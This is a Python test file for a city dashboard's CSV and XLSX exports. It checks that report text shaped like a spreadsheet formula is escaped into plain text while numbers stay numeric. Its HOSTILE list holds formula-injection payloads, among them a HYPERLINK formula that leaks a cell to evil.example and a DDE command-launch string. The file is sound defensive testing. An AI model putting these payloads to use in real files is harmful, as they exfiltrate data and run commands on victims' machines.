"""Exports are inert. Report text a phone sent that begins like a formula (=, +, -, @, a tab, a carriage
return) reaches a CSV as text (a leading ') and an XLSX as a string cell, never a formula; numbers stay numbers,
negative ones included."""

from __future__ import annotations

import io
from datetime import datetime

import pandas as pd
from openpyxl import load_workbook

from dashboard.data.db import session_scope
from dashboard.data.vocab import Role
from dashboard.exports.catalog import ExportContent
from dashboard.exports.tables import table_csv, table_xlsx
from tests.support.accounts import signed_in_client
from tests.support.export_files import csv_rows
from tests.support.factories import incident

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]
QUERY = "period=custom&from=2025-03-01&to=2025-03-31"


def summaries_exported(dash_app, city, fmt: str) -> bytes:
    with session_scope() as session:
        session.add_all(incident(datetime(2025, 3, 2 + n), summary=text) for n, text in enumerate(HOSTILE))
    operator = signed_in_client(dash_app, "operator", Role.CITY_OPERATOR)
    response = operator.get(f"/export/trends.records.{fmt}?{QUERY}")
    assert response.status_code == 200, response.text
    return bytes(response.data)


def test_report_text_that_looks_like_a_formula_is_text_in_the_csv(dash_app, city):
    rows = csv_rows(summaries_exported(dash_app, city, "csv"))
    cells = [cell for row in rows for cell in row.values()]
    assert sorted(cell for cell in cells if cell.lstrip("'") in HOSTILE) == sorted(f"'{text}" for text in HOSTILE)


def test_report_text_that_looks_like_a_formula_is_a_string_in_the_xlsx(dash_app, city):
    sheet = load_workbook(io.BytesIO(summaries_exported(dash_app, city, "xlsx"))).active
    found = [cell for row in sheet.iter_rows() for cell in row if cell.value in HOSTILE]
    assert sorted(cell.value for cell in found) == sorted(HOSTILE)
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in found)
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_numbers_stay_numbers_and_only_text_is_escaped():
    table = pd.DataFrame({"区域": ["-北区", "南区"], "同比": [-37.3, 4.8], "件数": [-2, 3]})
    content = ExportContent(title="各区域同比", period="2025年3月", table=table)
    text = table_csv(content, "zh-CN").decode("utf-8-sig")
    assert text.splitlines()[1:3] == ["'-北区,-37.3,-2", "南区,4.8,3"]
    sheet = load_workbook(io.BytesIO(table_xlsx(content, "zh-CN"))).active
    last_rows = [[cell.value for cell in row] for row in sheet.iter_rows()][-4:-2]  # before the blank and the footer
    assert last_rows == [["-北区", -37.3, -2], ["南区", 4.8, 3]]
